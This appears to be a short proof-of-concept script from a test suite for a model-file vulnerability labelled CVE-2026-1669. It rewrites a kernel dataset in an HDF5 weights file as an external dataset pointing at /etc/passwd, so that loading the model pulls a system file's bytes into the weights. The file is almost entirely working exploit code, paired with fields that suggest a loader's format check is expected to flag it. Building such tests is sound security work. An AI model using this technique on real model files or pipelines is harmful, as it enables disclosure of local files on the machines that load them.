"""An array whose numbers are the bytes of another file (CVE-2026-1669)."""

from pathlib import Path

import h5py
from forging import BOTH, kernel, weights

FORMATS = BOTH
CHECK, SAYS = "format", "'/etc/passwd'"


def attack(path: Path) -> None:
    def steal(file: h5py.File) -> None:
        name = kernel(file)
        del file[name]
        file.create_dataset(name, (1, 1), "float32", external=[("/etc/passwd", 0, 4)])

    weights(path, steal)
